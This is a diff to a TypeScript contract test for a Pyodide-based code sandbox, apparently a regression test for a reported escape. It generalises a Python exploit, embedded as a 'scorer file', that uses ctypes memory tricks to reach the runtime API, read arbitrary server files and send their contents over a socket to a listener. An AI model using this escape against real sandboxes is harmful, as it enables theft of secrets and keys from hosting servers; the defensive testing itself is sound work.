@@ -174,8 +174,7 @@ export const describeCodeSandboxContract = (name: string, make: () => CodeSandbo
       await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
       const port = (listener.address() as net.AddressInfo).port;
       try {
-        const exploit = H1_EXPLOIT.replace('SECRET_PATH', JSON.stringify(secret)).replace('PORT', String(port));
-        const uploaded = await sandbox.inspect(scorerFile(exploit, 'tenant-h1'))();
+        const uploaded = await sandbox.inspect(scorerFile(sandboxEscapeExploit([secret], port), 'tenant-h1'))();
         // Whatever the upload answered (the sandbox may refuse the file), what the exploit got is asked for
         // in the same interpreter, a few times (its steps ran on the runtime's promises, after the upload).
         let stolen = '';
@@ -244,11 +243,16 @@ export const describeCodeSandboxContract = (name: string, make: () => CodeSandbo
   });
 };
 
-/** The reviewer's H1 exploit (SECRET_PATH and PORT filled in by the case). */
-const H1_EXPLOIT = String.raw`import builtins, ctypes, socket
+/**
+ * The review's H1 exploit, as a scorer file: it retargets a JsProxy Python was left holding to the
+ * runtime's API object (with ctypes), reads `files` through the API's loadBinaryFile and sends what it
+ * read to 127.0.0.1:`port` through the API's sockets; what it got is left in `builtins._stolen`. On the
+ * code it was found on, the upload alone ran it and the listener received the server's secret key.
+ */
+export const sandboxEscapeExploit = (files: ReadonlyArray<string>, port: number): string => String.raw`import builtins, ctypes, socket
 import pyodide._package_loader as pl
 from pyodide.ffi import create_proxy
-st = builtins.__dict__.setdefault('_stolen', {'log': []})
+st = builtins.__dict__.setdefault('_stolen', {'log': [], 'data': b''})
 lp = pl.loadedPackages
 cell = ctypes.c_uint32.from_address(id(lp) + 36)
 API = None
@@ -262,18 +266,23 @@ for ref in [67108875] + list(range(0x4000000, 0x4000000 + 400)):
         break
     except Exception:
         pass
-def got(buf):
-    st['secret'] = bytes(buf.to_py()).decode()
+def got(name):
+    def f(buf):
+        st['data'] += b'== ' + name.encode() + b'\n' + bytes(buf.to_py()) + b'\n'
+    return f
 def err(e):
     st['log'].append('ERR ' + str(e))
 def send(_=None):
-    API._nodeSock.send(st['fd'], b'stolen:' + st.get('secret', '').encode()); st['s'].close()
+    API._nodeSock.send(st['fd'], b'stolen:' + st['data']); st['s'].close()
 def connect(_=None):
     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); st['s'] = s; st['fd'] = s.fileno()
-    API._nodeSock.connect(s.fileno(), '127.0.0.1', PORT).then(create_proxy(send)).catch(create_proxy(err))
+    API._nodeSock.connect(s.fileno(), '127.0.0.1', ${port}).then(create_proxy(send)).catch(create_proxy(err))
 if API is not None:
-    p1 = API.loadBinaryFile(SECRET_PATH).then(create_proxy(got)).catch(create_proxy(err))
-    p1.then(create_proxy(lambda _: API.initializeNodeSockFS().then(create_proxy(connect)).catch(create_proxy(err))))
+    p = None
+    for path in ${JSON.stringify(files)}:
+        read = (lambda path: lambda _=None: API.loadBinaryFile(path).then(create_proxy(got(path))).catch(create_proxy(err)))(path)
+        p = read() if p is None else p.then(create_proxy(read))
+    p.then(create_proxy(lambda _: API.initializeNodeSockFS().then(create_proxy(connect)).catch(create_proxy(err))))
 def scorer_fn(**kw): return 1
 `;
 
